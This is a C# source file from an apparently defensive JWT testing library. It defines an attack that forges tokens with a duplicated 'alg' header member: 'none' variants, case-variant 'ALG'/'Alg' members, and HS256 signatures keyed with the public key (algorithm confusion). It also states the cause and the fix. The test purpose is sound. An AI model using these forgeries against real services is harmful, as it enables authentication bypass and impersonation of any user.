using System.Text;
using System.Text.Json;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A header that names two algorithms: the layer that checks the allow list reads one, the layer that verifies reads the other.
/// RFC 7515 4; ASVS 1.5.3.
/// </summary>
internal sealed class DuplicateAlgMember : JwtAttack
{
    public override string Id => "CRY1053";

    public override JwtFamily Family => JwtFamily.AlgorithmConfusion;

    public override IReadOnlyList<int> Cwe => [436, 347];

    public override IReadOnlyList<string> References => ["RFC 7515 4", "RFC 8725 3.1", "ASVS 1.5.3"];

    public override string Cause => "accepted a forged token whose header names alg twice";

    public override string Why => "two layers read two algorithms out of one header: anyone can become anyone";

    public override string Fix =>
        "read the header once, with AllowDuplicateProperties = false in JsonDocumentOptions, and verify with the very value that was checked";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1001", "CRY1003", "CRY1005", "CRY1008", "CRY1033"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        foreach (var (first, second) in new[] { ("none", token.Alg), (token.Alg, "none") })
        {
            var input = $"{RawJwt.Segment(HeaderNaming(token, first, second))}.{token.PayloadSegment}";
            yield return new Forgery($"{input}.", $"alg {first}, then {second}; no signature");
            yield return new Forgery($"{input}.{token.SignatureSegment}", $"alg {first}, then {second}; the genuine signature");
        }

        foreach (var name in new[] { "Alg", "ALG" })
        {
            var header = token.HeaderWith(member => member[name] = "none");
            yield return new Forgery($"{header}.{token.PayloadSegment}.", $"alg {token.Alg}, then {name} none; no signature");
        }

        foreach (var form in attacker.PublicKeys.SelectMany(key => PemForms.Spki(key).Take(2)))
        {
            foreach (var (first, second) in new[] { ("HS256", token.Alg), (token.Alg, "HS256") })
            {
                var input = $"{RawJwt.Segment(HeaderNaming(token, first, second))}.{token.PayloadSegment}";
                var forged = HmacTokens.Sign(input, "HS256", form.Bytes);
                yield return new Forgery(forged, $"alg {first}, then {second}; keyed with {form.Name}");
            }
        }
    }

    /// <summary>The token's header as text, with alg at both ends.</summary>
    public static string HeaderNaming(RawJwt token, string first, string second)
    {
        var rest = token.Header;
        rest.Remove("alg");
        var members = Encoding.UTF8.GetString(RawJwt.Utf8(rest))[1..^1];
        var middle = members.Length > 0 ? members + "," : "";
        return $$"""{"alg":{{JsonSerializer.Serialize(first)}},{{middle}}"alg":{{JsonSerializer.Serialize(second)}}}""";
    }
}
